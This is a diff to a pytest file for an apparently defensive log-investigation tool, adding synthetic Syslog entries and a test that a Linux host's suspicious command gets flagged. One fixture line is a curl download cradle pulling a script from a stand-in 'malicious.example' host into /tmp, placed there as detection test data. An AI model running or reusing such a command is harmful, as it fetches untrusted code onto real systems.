@@ -132,13 +132,16 @@ def inv(tmp_path_factory):
             "Syslog",
             pd.DataFrame(
                 {
-                    "TimeGenerated": [T0, T0 + pd.Timedelta(minutes=2)],
-                    "Computer": ["LNX-JUMP01", "LNX-JUMP01"],
-                    "Facility": ["auth", "auth"],
-                    "ProcessName": ["sshd", "sshd"],
+                    "TimeGenerated": [T0 + pd.Timedelta(minutes=m) for m in range(5)],
+                    "Computer": ["LNX-JUMP01"] * 5,
+                    "Facility": ["auth", "auth", "user", "authpriv", "user"],
+                    "ProcessName": ["sshd", "sshd", "bash", "sudo", "bash"],
                     "SyslogMessage": [
                         "Accepted password for bob from 10.10.1.52 port 50022 ssh2",
                         "Accepted password for bobby.jones from 10.10.1.7 port 50023 ssh2",
+                        "bob: curl -fsSL http://malicious.example/p.sh -o /tmp/p.sh",
+                        "  bob : TTY=pts/1 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/apt update",
+                        "bob: ls -la",
                     ],
                 }
             ),
@@ -224,3 +227,11 @@ def test_unknown_account_and_empty_name(inv):
     missing = accounts.find_accounts(inv, "bobb")
     assert missing.empty and "closest names" in " ".join(missing.messages())
     assert "pass account=" in " ".join(accounts.find_accounts(inv, "").messages())
+
+
+def test_notable_commands_on_a_linux_host(inv):
+    found = processes.notable_processes(inv, "LNX-JUMP01", "Linux")
+    assert found.data[["Account", "NewProcessName"]].values.tolist() == [["bob", "bash"]]
+    reasons = found.data["Reasons"].iloc[0]
+    assert "download cradle" in reasons and "temporary folder" in reasons
+    assert "1 of 3 commands" in " ".join(found.messages())
